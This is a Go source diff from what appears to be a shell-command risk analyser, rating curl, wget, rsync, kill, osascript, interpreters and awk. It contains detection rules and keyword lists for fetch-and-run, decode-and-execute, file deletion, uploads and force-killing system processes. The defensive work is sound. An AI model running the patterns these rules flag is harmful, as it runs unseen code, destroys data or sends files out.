+		"swift": interpreter(interpSpec{code: "e"}), "php": interpreter(phpSpec), "lua": interpreter(luaSpec),
+		"luajit": interpreter(luaSpec), "tclsh": interpreter(interpSpec{}), "wish": interpreter(interpSpec{}),
+		"deno": runtimeCommand, "bun": runtimeCommand, "pwsh": pwshCommand, "powershell": pwshCommand,
+		"automator": dangerous("runs a workflow (its actions are not analysed)"), "openssl": opensslCommand,
+		"shortcuts": func(c *call) {
+			switch s := sub(c.args); s {
+			case "list", "help", "":
+			case "run":
+				c.add(level.Dangerous, "shortcuts-run", "shortcuts run: runs a shortcut, whose actions are not analysed")
+			default:
+				c.add(level.Caution, "shortcuts", "shortcuts %s: works with shortcuts", display(s))
+			}
+		},
+	} {
+		shellCommands[n] = h
+	}
+	brew := shellCommands["brew"]
+	shellCommands["brew"] = func(c *call) {
+		ops := c.operands()
+		if len(ops) > 0 && strings.EqualFold(ops[0].s, "services") {
+			s := ""
+			if len(ops) > 1 {
+				s = strings.ToLower(ops[1].s)
+			}
+			switch s {
+			case "", "list", "ls", "info":
+				return
+			}
+			c.add(level.Dangerous, "brew-services", "brew services %s: starts or stops background services", display(s))
+			return
+		}
+		brew(c)
+	}
+}
+
+func killCommand(c *call) {
+	forced := false
+	signal := func(s string) {
+		u := strings.TrimPrefix(strings.ToUpper(s), "SIG")
+		if u == "9" || u == "KILL" {
+			forced = true
+		}
+	}
+	args := c.args
+	var targets []word
+	if c.name == "kill" {
+		// kill [-s SIG | -n NUM | -SIG] [--] pid…: after the signal, -1 is
+		// a process (every process), not an option.
+		i := 0
+		if i < len(args) && !args[i].hole && strings.HasPrefix(args[i].s, "-") && args[i].s != "--" && len(args[i].s) > 1 {
+			switch s := args[i].s; s {
+			case "-l", "-L":
+				return
+			case "-s", "-n", "--signal":
+				if i+1 < len(args) {
+					signal(args[i+1].s)
+				}
+				i += 2
+			default:
+				signal(s[1:])
+				i++
+			}
+		}
+		if i < len(args) && args[i].s == "--" {
+			i++
+		}
+		if i < len(args) {
+			targets = args[i:]
+		}
+	} else {
+		for i, w := range args {
+			s := w.s
+			switch {
+			case s == "-u" || s == "-U" || s == "--uid" || s == "--euid" || strings.HasPrefix(s, "--uid=") || strings.HasPrefix(s, "--euid="):
+				c.add(level.Dangerous, "kill-user", "%s %s: kills every process of a user", c.name, s)
+			case s == "-s" || s == "--signal":
+				if i+1 < len(args) {
+					signal(args[i+1].s)
+				}
+			case strings.HasPrefix(s, "--signal="):
+				signal(s[len("--signal="):])
+			case strings.HasPrefix(s, "-") && len(s) > 1 && !strings.HasPrefix(s, "--"):
+				signal(s[1:])
+			}
+		}
+		targets = c.operands()
+	}
+	for _, w := range targets {
+		switch strings.ToLower(w.s) {
+		case "windowserver", "loginwindow", "launchd", "kernel_task", "1", "-1", "systemuiserver":
+			c.add(level.Dangerous, "kill-system", "%s %s: kills a process the session depends on (or every process)", c.name, w.s)
+		}
+	}
+	if forced {
+		c.add(level.Dangerous, "kill-forced", "%s -9: force-kills processes; unsaved work is lost", c.name)
+		return
+	}
+	c.add(level.Caution, "kill", "%s: stops processes", c.name)
+}
+
+// shortOpts walks a command's arguments the way getopt does: clusters of
+// short letters (-sLo file, -sLofile), long options (--name=value, --name
+// value), operands. valued lists the short letters that take a value;
+// longValued says whether a long option without = takes the next word.
+// visit sees each option with its value (or each operand, opt "").
+func shortOpts(args []word, valued string, longValued func(string) bool, visit func(opt string, val word, has bool)) {
+	for i := 0; i < len(args); i++ {
+		w := args[i]
+		s := w.s
+		switch {
+		case w.hole || !strings.HasPrefix(s, "-") || s == "-":
+			visit("", w, true)
+		case s == "--":
+			for _, o := range args[i+1:] {
+				visit("", o, true)
+			}
+			return
+		case strings.HasPrefix(s, "--"):
+			name, val, has := strings.Cut(s, "=")
+			if has {
+				visit(name, word{s: val, hole: w.hole, span: w.span}, true)
+			} else if longValued != nil && longValued(name) && i+1 < len(args) {
+				visit(name, args[i+1], true)
+				i++
+			} else {
+				visit(name, word{}, false)
+			}
+		default:
+			letters := s[1:]
+			for j := 0; j < len(letters); j++ {
+				opt := "-" + letters[j:j+1]
+				if strings.IndexByte(valued, letters[j]) < 0 {
+					visit(opt, word{}, false)
+					continue
+				}
+				if rest := letters[j+1:]; rest != "" {
+					visit(opt, word{s: rest, span: w.span}, true)
+				} else if i+1 < len(args) {
+					visit(opt, args[i+1], true)
+					i++
+				} else {
+					visit(opt, word{}, false)
+				}
+				break
+			}
+		}
+	}
+}
+
+func inList(s string, list ...string) bool {
+	for _, l := range list {
+		if s == l {
+			return true
+		}
+	}
+	return false
+}
+
+// curlValued are curl's short options that take a value.
+const curlValued = "oDdFTHXueAbcKxrCwmEUyYztQPh"
+
+func curlLongValued(n string) bool {
+	switch n {
+	case "--output", "--output-dir", "--upload-file", "--form", "--form-string", "--json", "--header", "--request",
+		"--user", "--referer", "--user-agent", "--cookie", "--cookie-jar", "--config", "--proxy", "--range",
+		"--continue-at", "--write-out", "--max-time", "--connect-timeout", "--retry", "--retry-delay", "--retry-max-time",
+		"--cert", "--key", "--cacert", "--capath", "--resolve", "--connect-to", "--url", "--dump-header", "--trace",
+		"--trace-ascii", "--stderr", "--limit-rate", "--max-filesize", "--proto", "--proto-redir", "--interface",
+		"--local-port", "--dns-servers", "--oauth2-bearer", "--aws-sigv4", "--variable", "--netrc-file", "--unix-socket",
+		"--hsts", "--alt-svc", "--etag-save", "--etag-compare", "--url-query", "--mail-from", "--mail-rcpt", "--proxy-user",
+		"--noproxy", "--max-redirs", "--time-cond", "--speed-limit", "--speed-time", "--quote", "--telnet-option",
+		"--ftp-port", "--preproxy", "--socks5", "--socks5-hostname", "--socks4", "--socks4a", "--expect100-timeout",
+		"--parallel-max", "--rate", "--create-file-mode", "--keepalive-time", "--ciphers", "--tls-max", "--pinnedpubkey":
+		return true
+	}
+	return strings.HasPrefix(n, "--data")
+}
+
+func curlCommand(c *call) {
+	upload, remoteName := false, false
+	outDir := word{}
+	var outputs []word
+	var urls []word
+	shortOpts(c.args, curlValued, curlLongValued, func(opt string, v word, has bool) {
+		switch {
+		case opt == "":
+			urls = append(urls, v)
+		case !has:
+			if opt == "-O" || opt == "--remote-name" || opt == "--remote-name-all" || opt == "-J" || opt == "--remote-header-name" {
+				remoteName = true
+			}
+		case opt == "-T" || opt == "--upload-file":
+			upload = true
+			if v.s != "-" && v.s != "." {
+				c.a.read(v, c.span)
+			}
+		case opt == "-d" || opt == "-F" || strings.HasPrefix(opt, "--data") || opt == "--form" || opt == "--form-string" || opt == "--json":
+			upload = true
+			data := v.s
+			if j := strings.IndexAny(data, "@<"); j >= 0 {
+				c.a.read(word{s: data[j+1:], hole: v.hole, guess: v.guess}, c.span)
+			}
+		case opt == "-X" || opt == "--request":
+			if !strings.EqualFold(v.s, "GET") && !strings.EqualFold(v.s, "HEAD") {
+				upload = true
+			}
+		case opt == "-K" || opt == "--config":
+			c.add(level.Dangerous, "curl-config", "%s -K: takes options from a file that is not analysed", c.name)
+			c.a.read(v, c.span)
+		case opt == "-o" || opt == "--output":
+			outputs = append(outputs, v)
+		case opt == "--output-dir":
+			outDir = v
+		case opt == "-D" || opt == "--dump-header" || opt == "-c" || opt == "--cookie-jar" || opt == "--trace" ||
+			opt == "--trace-ascii" || opt == "--stderr" || opt == "--etag-save":
+			if v.s != "-" && !isDevice(v.s) {
+				c.a.write(v, c.span, c.name+" writes")
+			}
+		}
+	})
+	inDir := func(name word) word {
+		if outDir.s == "" || name.hole || strings.HasPrefix(name.s, "/") || strings.HasPrefix(name.s, "~") {
+			return name
+		}
+		return word{s: strings.TrimSuffix(outDir.s, "/") + "/" + name.s, hole: outDir.hole, guess: outDir.guess, span: name.span}
+	}
+	for _, o := range outputs {
+		if o.s == "-" || isDevice(o.s) {
+			continue
+		}
+		o = inDir(o)
+		c.a.write(o, c.span, "downloads into")
+		if !o.hole {
+			c.a.setFile(o.s, fileDownloaded)
+		}
+	}
+	if remoteName {
+		for _, u := range urls {
+			name := urlBase(u)
+			if outDir.s == "" && c.a.cwd == "" {
+				if name.s != "" && !name.hole {
+					c.a.setFile(name.s, fileDownloaded)
+				}
+				continue
+			}
+			f := inDir(name)
+			c.a.write(f, c.span, "downloads into")
+			if !f.hole {
+				c.a.setFile(f.s, fileDownloaded)
+			}
+		}
+	}
+	if upload {
+		c.add(level.Dangerous, "upload", "%s: sends data to a server", c.name)
+		return
+	}
+	c.add(level.Caution, "download", "%s: fetches from the network", c.name)
+}
+
+// urlBase is the file name a download of u is saved under (curl -O, wget).
+func urlBase(u word) word {
+	s := u.s
+	if i := strings.IndexAny(s, "?#"); i >= 0 {
+		s = s[:i]
+	}
+	if i := strings.Index(s, "://"); i >= 0 {
+		s = s[i+3:]
+	}
+	_, p, ok := strings.Cut(s, "/")
+	name := path.Base("/" + p)
+	if !ok || name == "/" || name == "." {
+		name = "index.html"
+	}
+	return word{s: name, hole: u.hole && strings.Contains(name, holeMark), span: u.span}
+}
+
+func wgetCommand(c *call) {
+	dir := word{}
+	var out []word
+	var urls []word
+	upload := false
+	long := func(n string) bool {
+		return inList(n, "--output-document", "--directory-prefix", "--post-data", "--post-file", "--body-data", "--body-file",
+			"--method", "--input-file", "--output-file", "--append-output", "--header", "--user-agent", "--user", "--password",
+			"--load-cookies", "--save-cookies", "--execute", "--tries", "--timeout", "--wait", "--referer", "--config")
+	}
+	shortOpts(c.args, "OoaPieUtTwQlARDXIB", long, func(opt string, v word, has bool) {
+		switch {
+		case opt == "":
+			urls = append(urls, v)
+		case opt == "-O" || opt == "--output-document":
+			out = append(out, v)
+		case opt == "-P" || opt == "--directory-prefix":
+			dir = v
+		case opt == "-o" || opt == "-a" || opt == "--output-file" || opt == "--append-output" || opt == "--save-cookies":
+			if has {
+				c.a.write(v, c.span, "wget writes")
+			}
+		case strings.HasPrefix(opt, "--post-") || strings.HasPrefix(opt, "--body-"):
+			upload = true
+			if strings.HasSuffix(opt, "-file") {
+				c.a.read(v, c.span)
+			}
+		case opt == "--method":
+			if !strings.EqualFold(v.s, "GET") && !strings.EqualFold(v.s, "HEAD") {
+				upload = true
+			}
+		case opt == "-i" || opt == "--input-file" || opt == "--load-cookies":
+			c.a.read(v, c.span)
+		}
+	})
+	if upload {
+		c.add(level.Dangerous, "upload", "wget: sends data to a server")
+	}
+	for _, o := range out {
+		if o.s == "-" || isDevice(o.s) {
+			continue
+		}
+		c.a.write(o, c.span, "downloads into")
+		if !o.hole {
+			c.a.setFile(o.s, fileDownloaded)
+		}
+	}
+	if len(out) == 0 {
+		for _, u := range urls {
+			name := urlBase(u)
+			f := name
+			if dir.s != "" {
+				f = word{s: strings.TrimSuffix(dir.s, "/") + "/" + name.s, hole: dir.hole || name.hole, guess: dir.guess, span: u.span}
+			}
+			if dir.s != "" || c.a.cwd != "" {
+				c.a.write(f, c.span, "downloads into")
+			}
+			if !f.hole {
+				c.a.setFile(f.s, fileDownloaded)
+			}
+		}
+	}
+	c.add(level.Caution, "download", "wget: fetches from the network")
+}
+
+// copyRemote rates scp and rsync: a host:path operand sends or fetches
+// files over the network; rsync --delete deletes at the destination.
+func copyRemote(c *call) {
+	ops := c.operands()
+	remote := false
+	for _, w := range ops {
+		if i := strings.Index(w.s, ":"); i > 0 && !strings.Contains(w.s[:i], "/") {
+			remote = true
+		}
+	}
+	if hasLong(c.args, "--delete", "--del", "--delete-after", "--delete-before", "--delete-during", "--delete-delay", "--delete-excluded", "--delete-missing-args") {
+		dest := word{}
+		if len(ops) > 0 {
+			dest = ops[len(ops)-1]
+		}
+		p, _ := c.a.pathOf(dest)
+		if remote || strings.HasPrefix(p, "/Volumes/") {
+			c.add(level.Dangerous, "rsync-delete", "%s --delete: deletes files at the destination that the source lacks", c.name)
+		} else {
+			c.add(level.Destructive, "rsync-delete", "%s --delete: deletes every file in %s that the source lacks", c.name, display(dest.s))
+		}
+	}
+	if hasLong(c.args, "--remove-source-files") {
+		c.add(level.Dangerous, "rsync-delete", "%s --remove-source-files: deletes the source files", c.name)
+	}
+	if remote {
+		c.add(level.Dangerous, "upload", "%s: copies files to or from another machine", c.name)
+		c.a.uploadAt(c.span)
+		for _, w := range ops[:max(0, len(ops)-1)] {
+			c.a.read(w, c.span)
+		}
+		return
+	}
+	c.add(level.Caution, c.name, "%s: copies files", c.name)
+	c.writeDest()
+}
+
+// terminalApps run a command given after --args (-e, --command …).
+var terminalAppNames = []string{"terminal", "iterm", "warp", "alacritty", "kitty", "ghostty", "wezterm", "hyper", "tabby", "rio", "script editor", "xterm", "cool-retro-term"}
+
+func openCommand(c *call) {
+	for i, w := range c.args {
+		// -a APP, -b ID, alone or ending a cluster: -na, -gb
+		if s := w.s; len(s) > 1 && s[0] == '-' && s[1] != '-' && (s[len(s)-1] == 'a' || s[len(s)-1] == 'b') &&
+			strings.Trim(s[1:], "abnFWRgjhstfeuD") == "" && i+1 < len(c.args) {
+			app := strings.ToLower(c.args[i+1].s)
+			term := c.args[i+1].hole
+			for _, t := range terminalAppNames {
+				if strings.Contains(app, t) {
+					term = true
+				}
+			}
+			if term {
+				c.add(level.Dangerous, "open-terminal", "open -a %s: opens a terminal or script runner", display(c.args[i+1].s))
+				c.terminalArgs()
+				return
+			}
+		}
+	}
+	for _, w := range c.operands() {
+		s := strings.ToLower(w.s)
+		if scheme, ok := urlScheme(s); ok {
+			if l, why := schemeRisk(scheme); l > level.Caution {
+				c.add(l, "open-url", "open %s: %s", display(w.s), why)
+				continue
+			}
+			c.add(level.Caution, "open-url", "open: opens a web page")
+			continue
+		}
+		for _, ext := range []string{".app", ".command", ".tool", ".sh", ".terminal", ".pkg", ".mpkg", ".workflow", ".scpt", ".applescript", ".dmg"} {
+			if strings.HasSuffix(strings.TrimSuffix(s, "/"), ext) {
+				c.add(level.Dangerous, "open-executable", "open %s: launches something that runs code", display(w.s))
+			}
+		}
+		if w.hole {
+			c.add(level.Dangerous, "open-computed", "open: opens something computed at run time")
+		}
+	}
+	c.add(level.Caution, "open", "open: opens a file, folder or application")
+}
+
+// terminalArgs analyses the command a terminal opened with open -a … --args
+// runs: after -e, --command, -x or --, or the arguments themselves.
+func (c *call) terminalArgs() {
+	for i, w := range c.args {
+		if w.s != "--args" {
+			continue
+		}
+		rest := c.args[i+1:]
+		marker := func(s string) bool { return inList(s, "-e", "--command", "-x", "--execute", "--", "start", "-c") }
+		for j, r := range rest {
+			if marker(r.s) {
+				rest = rest[j+1:]
+				break
+			}
+		}
+		for len(rest) > 0 && marker(rest[0].s) && len(rest) > 1 && !shells[commandName(rest[0].s)] {
+			rest = rest[1:]
+		}
+		if len(rest) > 0 && strings.HasPrefix(rest[0].s, "-") && !rest[0].hole {
+			c.add(level.Dangerous, "terminal-args", "%s: the terminal's arguments are not analysed", c.name)
+			return
+		}
+		if len(rest) == 1 && (rest[0].hole || strings.ContainsAny(rest[0].s, " ;|&\n")) {
+			c.nested(rest, "terminal command")
+			return
+		}
+		if len(rest) > 0 {
+			c.a.call(rest, c.span, pipeCtx{})
+		}
+		return
+	}
+}
+
+// fromStdin rates an interpreter that reads its program from stdin:
+// reading commands from a download or decoded data is Destructive.
+func (c *call) fromStdin() { c.fromStdinAs(shells[c.name]) }
+
+// fromStdinAs rates a program that reads its program from stdin; shell
+// says the program is shell commands (sh, at, source /dev/stdin).
+func (c *call) fromStdinAs(shell bool) {
+	switch c.pc.stdin {
+	case "download":
+		c.add(level.Destructive, "curl-pipe-sh", "%s reads commands from a download: runs code from the network unseen", c.name)
+	case "decoded":
+		c.add(level.Destructive, "decoded-exec", "%s runs decoded or transformed data as commands", c.name)
+	case "text":
+		if c.pc.obf {
+			c.add(level.Dangerous, "decoded-exec", "%s runs text spelled with hex or octal escapes", c.name)
+		}
+		if shell {
+			c.nested([]word{{s: c.pc.text}}, c.name)
+		} else {
+			c.add(level.Dangerous, "interp-stdin", "%s runs a program that is not analysed", c.name)
+			scanCode(c, c.pc.text)
+		}
+	case "computed":
+		c.add(level.Destructive, "stdin-computed", "%s runs commands computed at run time", c.name)
+	case "pipe":
+		c.add(level.Destructive, "pipe-exec", "%s runs another program's output as commands", c.name)
+	}
+}
+
 // runFile rates running a script file this same input wrote or downloaded
 // earlier; it reports false for a file the input did not produce.
 func (a *shellAn) runFile(c *call, name string) bool {
-	content, ok := a.files[name]
+	content, ok := a.files[a.fileKey(name)]
 	if !ok {
 		return false
 	}
@@ -1416,4 +1645,1924 @@ func (a *shellAn) runFile(c *call, name string) bool {
 	c.add(level.Caution, "write-exec", "%s %s: runs a script written earlier in this input", c.name, display(name))
 	c.nested([]word{{s: content}}, c.name+" "+name)
 	return true
+}
+
+func osascriptCommand(c *call) {
+	c.add(level.Dangerous, "osascript", "osascript: runs AppleScript or JavaScript for Automation")
+	jxa := false
+	var lines []string
+	var file word
+	hasFile := false
+	args := c.args
+	for i := 0; i < len(args) && !hasFile; i++ {
+		w := args[i]
+		s := w.s
+		switch {
+		case s == "--":
+			if i+1 < len(args) {
+				file, hasFile = args[i+1], true
+			}
+		case s == "-" || w.hole || !strings.HasPrefix(s, "-"):
+			file, hasFile = w, true
+		default:
+			letters := s[1:]
+			for j := 0; j < len(letters); j++ {
+				l := letters[j]
+				if l != 'l' && l != 'e' && l != 's' {
+					continue
+				}
+				v := word{s: letters[j+1:], span: w.span}
+				if v.s == "" {
+					if i+1 >= len(args) {
+						break
+					}
+					i++
+					v = args[i]
+				}
+				switch l {
+				case 'l':
+					jxa = strings.EqualFold(v.s, "JavaScript")
+				case 'e':
+					if v.hole {
+						c.add(level.Destructive, "osascript-computed", "osascript -e with a script computed at run time")
+						return
+					}
+					lines = append(lines, v.s)
+				}
+				break
+			}
+		}
+	}
+	src := strings.Join(lines, "\n")
+	if len(lines) == 0 {
+		switch {
+		case hasFile && !isStdinPath(file.s):
+			if file.hole {
+				c.add(level.Destructive, "osascript-computed", "osascript runs a script file computed at run time")
+				return
+			}
+			content, ok := c.a.files[c.a.fileKey(file.s)]
+			switch {
+			case !ok:
+				c.add(level.Dangerous, "osascript-file", "osascript runs a script file that is not analysed")
+				return
+			case content == fileDownloaded || content == fileComputed:
+				c.add(level.Destructive, "download-exec", "osascript %s: runs a script this input downloaded or computed", display(file.s))
+				return
+			}
+			src = content
+			if strings.HasSuffix(strings.ToLower(file.s), ".js") {
+				jxa = true
+			}
+		case c.pc.stdin == "text":
+			src = c.pc.text
+		case c.pc.stdin == "":
+			return
+		default:
+			c.fromStdin()
+			return
+		}
+	}
+	sp := c.span
+	at := anchorOr(c.a.anchor, &sp)
+	if c.a.depth+1 > maxDepth {
+		c.add(level.Destructive, "too-deep", "scripts nested too deeply: not analysed")
+		return
+	}
+	if !c.a.spend(1 + len(src)/100) {
+		return
+	}
+	var inner Verdict
+	if jxa {
+		inner = jxaAt(src, c.a.env, c.a.depth+1)
+	} else {
+		inner = appleScriptAt(src, c.a.env, c.a.depth+1)
+	}
+	c.a.v.merge(inner, at)
+}
+
+// interpSpec says how an interpreter takes its program: code letters take
+// the program text (python -c, perl -e), valued letters another value,
+// optional letters an optional attached value (perl -i.bak), module a
+// module to run (python -m).
+type interpSpec struct {
+	code, valued, optional, module string
+	longCode, longValued           []string
+}
+
+var (
+	pythonSpec = interpSpec{code: "c", valued: "XWQ", module: "m", longValued: []string{"--check-hash-based-pycs"}}
+	perlSpec   = interpSpec{code: "eE", valued: "IMm", optional: "ilCdx0DFV"}
+	rubySpec   = interpSpec{code: "e", valued: "rICEF", optional: "TWxi0Kdl"}
+	nodeSpec   = interpSpec{code: "ep", valued: "rC", longCode: []string{"--eval", "--print"},
+		longValued: []string{"--require", "--import", "--loader", "--experimental-loader", "--input-type", "--env-file", "--conditions", "--title", "--inspect-port"}}
+	phpSpec = interpSpec{code: "rBRFE", valued: "cdzt"}
+	luaSpec = interpSpec{code: "e", valued: "l"}
+)
+
+// interpreter rates python, perl, ruby, node …: their code is not analysed,
+// so they are at least Dangerous; keyword scanning raises that to
+// Destructive for deletion, decode-and-run and shell-outs.
+func interpreter(sp interpSpec) func(*call) {
+	return func(c *call) {
+		args := c.args
+		if len(args) == 0 {
+			c.fromStdin()
+			return
+		}
+		for i := 0; i < len(args); i++ {
+			w := args[i]
+			s := w.s
+			if s == "--version" || s == "-V" || s == "--help" || s == "-h" || s == "-v" && len(args) == 1 {
+				return
+			}
+			switch {
+			case w.hole:
+				c.add(level.Destructive, "interp-computed", "%s runs a program computed at run time", c.name)
+				return
+			case s == "-":
+				c.fromStdin()
+				return
+			case s == "--":
+				if i+1 < len(args) {
+					c.programFile(args[i+1])
+				} else {
+					c.fromStdin()
+				}
+				return
+			case strings.HasPrefix(s, "--"):
+				name, val, has := strings.Cut(s, "=")
+				if inList(name, sp.longCode...) {
+					code := word{s: val, span: w.span}
+					if !has && i+1 < len(args) {
+						code = args[i+1]
+					}
+					c.inlineCode(code)
+					return
+				}
+				if !has && inList(name, sp.longValued...) {
+					i++
+				}
+				continue
+			case strings.HasPrefix(s, "-"):
+				letters := s[1:]
+				for j := 0; j < len(letters); j++ {
+					l := letters[j]
+					rest := letters[j+1:]
+					switch {
+					case strings.IndexByte(sp.code, l) >= 0:
+						code := word{s: rest, span: w.span}
+						if rest == "" && i+1 < len(args) {
+							code = args[i+1]
+						}
+						c.inlineCode(code)
+						return
+					case strings.IndexByte(sp.module, l) >= 0:
+						m := rest
+						if m == "" && i+1 < len(args) {
+							m = args[i+1].s
+						}
+						c.add(level.Dangerous, "interp-module", "%s -%c %s: runs a module that is not analysed", c.name, l, display(m))
+						return
+					case strings.IndexByte(sp.valued, l) >= 0:
+						if rest == "" {
+							i++
+						}
+					case strings.IndexByte(sp.optional, l) >= 0:
+					default:
+						continue
+					}
+					break
+				}
+				continue
+			}
+			c.programFile(w)
+			return
+		}
+		c.fromStdin()
+	}
+}
+
+// inlineCode rates program text given on the command line.
+func (c *call) inlineCode(w word) {
+	c.add(level.Dangerous, "interp-code", "%s runs inline code that is not analysed", c.name)
+	if w.hole {
+		c.add(level.Destructive, "interp-computed", "%s runs code computed at run time", c.name)
+	}
+	scanCode(c, w.s)
+}
+
+// programFile rates an interpreter running a program file.
+func (c *call) programFile(w word) {
+	if isStdinPath(w.s) {
+		c.fromStdin()
+		return
+	}
+	switch content, ok := c.a.files[c.a.fileKey(w.s)]; {
+	case !ok:
+		c.add(level.Dangerous, "interp-file", "%s %s: runs a program that is not analysed", c.name, display(w.s))
+	case content == fileDownloaded:
+		c.add(level.Destructive, "download-exec", "%s %s: runs a file downloaded by this same script", c.name, display(w.s))
+	case content == fileComputed:
+		c.add(level.Destructive, "write-exec", "%s %s: runs a file this script wrote with computed content", c.name, display(w.s))
+	default:
+		c.add(level.Dangerous, "interp-file", "%s %s: runs a program that is not analysed", c.name, display(w.s))
+		scanCode(c, content)
+	}
+}
+
+// runtimeCommand rates deno and bun: eval runs code, run a file or -, no
+// arguments reads the program from stdin.
+func runtimeCommand(c *call) {
+	ops := c.operands()
+	if len(c.args) == 0 {
+		c.fromStdin()
+		return
+	}
+	for i, w := range c.args {
+		if w.s == "-e" || w.s == "--eval" || w.s == "-p" || w.s == "--print" {
+			if i+1 < len(c.args) {
+				c.inlineCode(c.args[i+1])
+			}
+			return
+		}
+	}
+	s := sub(c.args)
+	switch {
+	case s == "eval" && len(ops) > 1:
+		c.inlineCode(ops[1])
+	case s == "-" || (s == "run" || s == "x") && len(ops) > 1 && ops[1].s == "-":
+		c.fromStdin()
+	case (s == "run" || s == "x") && len(ops) > 1:
+		c.programFile(ops[1])
+	case s == "--version" || s == "-v" || s == "help" || s == "--help" || s == "upgrade" && false:
+	default:
+		c.add(level.Dangerous, "interp-file", "%s %s: runs a program that is not analysed", c.name, display(s))
+	}
+}
+
+func pwshCommand(c *call) {
+	if len(c.args) == 0 {
+		c.fromStdin()
+		return
+	}
+	for i, w := range c.args {
+		s := strings.ToLower(w.s)
+		next := word{}
+		if i+1 < len(c.args) {
+			next = c.args[i+1]
+		}
+		switch s {
+		case "-encodedcommand", "-enc", "-e", "-ec", "-en", "-encoded":
+			c.add(level.Destructive, "decoded-exec", "%s -EncodedCommand: runs base64-encoded code", c.name)
+			return
+		case "-command", "-c", "-com", "-comm":
+			if next.s == "-" {
+				c.fromStdin()
+				return
+			}
+			c.inlineCode(next)
+			return
+		case "-file", "-f":
+			c.programFile(next)
+			return
+		case "-":
+			c.fromStdin()
+			return
+		}
+	}
+	c.add(level.Dangerous, "interp-file", "%s: runs code that is not analysed", c.name)
+}
+
+// scanCode looks through unanalysed program text for the obvious.
+func scanCode(c *call, code string) {
+	low := strings.ToLower(code)
+	for _, k := range []string{"rmtree", "remove_tree", "unlink(", "os.remove", "remove_dir", "rm -rf", "rm -r", "fileutils.rm", "rmsync", "rimraf", "shutil.rmtree", "removeitematpath", "rm_rf"} {
+		if strings.Contains(low, k) {
+			c.add(level.Destructive, "interp-delete", "%s code deletes files (%s)", c.name, k)
+			return
+		}
+	}
+	runs := ""
+	for _, k := range []string{"os.system", "subprocess", "system(", "system (", "exec(", "exec (", "popen", "spawn", "`", "eval(", "eval (",
+		"function(", "instance_eval", "class_eval", "child_process", "execsync", "qx", "runtime.getruntime", "new function"} {
+		if strings.Contains(low, k) {
+			runs = k
+			break
+		}
+	}
+	if runs == "" {
+		return
+	}
+	for _, k := range []string{"b64decode", "base64", "decode64", "unhexlify", "fromhex", "pack(", "pack (", "fromcharcode",
+		"atob(", "zlib", "marshal.loads", "rot13", "rot_13", "codecs.decode", "decompress", "frombase64string", "unpack(", "hex2bin",
+		"gzinflate", "str_rot13", "\\x", "chr(", "reverse("} {
+		if strings.Contains(low, k) {
+			c.add(level.Destructive, "interp-decode-exec", "%s code decodes data and runs it (%s … %s)", c.name, k, runs)
+			return
+		}
+	}
+	c.add(level.Dangerous, "interp-shell", "%s code runs other commands (%s)", c.name, runs)
+}
+
+// awkCommand rates awk programs: system(), print … | "cmd" and
+// "cmd" | getline run shell commands; print > "file" writes a file.
+func awkCommand(c *call) {
+	var buf [1]word
+	progs := buf[:0]
+	file := false
+	args := c.args
+	i := 0
+	for ; i < len(args); i++ {
+		w := args[i]
+		s := w.s
+		if w.hole || !strings.HasPrefix(s, "-") || s == "-" {
+			break
+		}
+		if s == "--" {
+			i++
+			break
+		}
+		switch {
+		case s == "-f" || s == "--file":
+			file = true
+			i++
+		case strings.HasPrefix(s, "-f") || strings.HasPrefix(s, "--file="):
+			file = true
+		case s == "-e" || s == "--source":
+			if i+1 < len(args) {
+				progs = append(progs, args[i+1])
+			}
+			i++
+		case strings.HasPrefix(s, "--source="):
+			progs = append(progs, word{s: s[len("--source="):], hole: w.hole})
+		case s == "-F" || s == "-v" || s == "-i" || s == "-l" || s == "--field-separator" || s == "--assign" || s == "--include" || s == "--load":
+			i++
+		}
+	}
+	if !file && len(progs) == 0 && i < len(args) {
+		progs = append(progs, args[i])
+	}
+	if file && len(progs) == 0 {
+		c.add(level.Dangerous, "awk-file", "%s runs a program file that is not analysed", c.name)
+	}
+	for _, p := range progs {
+		if p.hole {
+			c.add(level.Dangerous, "awk-system", "%s program is computed at run time", c.name)
+			continue
+		}
+		c.awkProgram(p.s)
+	}
+}
+
+// awkTok is a token of an awk program: a string literal (str set), a
+// name, or punctuation.
+type awkTok struct {
+	s   string
+	str bool
+}
+
+func awkTokens(prog string) []awkTok {
+	var toks []awkTok
+	for i := 0; i < len(prog); i++ {
+		ch := prog[i]
+		switch {
+		case ch == '"':
+			var b strings.Builder
+			j := i + 1
+			for ; j < len(prog) && prog[j] != '"'; j++ {
+				if prog[j] == '\\' && j+1 < len(prog) {
+					n, d, _ := oneEscape(prog[j:], false)
+					b.WriteString(d)
+					j += n - 1
+					continue
+				}
+				b.WriteByte(prog[j])
+			}
+			toks = append(toks, awkTok{s: b.String(), str: true})
+			i = j
+		case ch == '#':
+			for i < len(prog) && prog[i] != '\n' {
+				i++
+			}
+			toks = append(toks, awkTok{s: "\n"})
+		case ch == ' ' || ch == '\t' || ch == '\\':
+		case ch == '_' || ch >= 'a' && ch <= 'z' || ch >= 'A' && ch <= 'Z' || ch >= '0' && ch <= '9' || ch == '$' || ch == '.':
+			j := i
+			for j < len(prog) && (prog[j] == '_' || prog[j] == '$' || prog[j] == '.' || prog[j] >= 'a' && prog[j] <= 'z' || prog[j] >= 'A' && prog[j] <= 'Z' || prog[j] >= '0' && prog[j] <= '9') {
+				j++
+			}
+			toks = append(toks, awkTok{s: prog[i:j]})
+			i = j - 1
+		case (ch == '|' || ch == '>' || ch == '&') && i+1 < len(prog) && (prog[i+1] == ch || ch == '|' && prog[i+1] == '&'):
+			toks = append(toks, awkTok{s: prog[i : i+2]})
+			i++
+		default:
+			toks = append(toks, awkTok{s: prog[i : i+1]})
+		}
+	}
+	return toks
+}
+
+// awkText joins an awk expression into shell text: string literals as
+// they are, anything computed as an unquoted hole.
+func awkText(toks []awkTok) string {
+	var b strings.Builder
+	hole := false
+	for _, t := range toks {
+		switch {
+		case t.str:
+			b.WriteString(t.s)
+			hole = false
+		case t.s == "(" || t.s == ")" || t.s == ",":
+		default:
+			if !hole {
+				b.WriteString(holeUnquoted)
+				hole = true
+			}
+		}
+	}
+	return b.String()
+}
+
+func awkBoundary(t awkTok) bool {
+	return !t.str && (t.s == ";" || t.s == "{" || t.s == "}" || t.s == "\n" || t.s == "&&" || t.s == "||")
+}
+
+func (c *call) awkProgram(prog string) {
+	if !strings.Contains(prog, "system") && !strings.ContainsAny(prog, "|>") {
+		return // no command, pipe or output file
+	}
+	toks := awkTokens(prog)
+	shellRuns := false
+	run := func(cmd []awkTok, what string) {
+		text := awkText(cmd)
+		if strings.Contains(text, holeUnquoted) || len(cmd) == 0 {
+			shellRuns = true
+		} else {
+			c.add(level.Caution, "awk-command", "%s program runs %s", c.name, display(text))
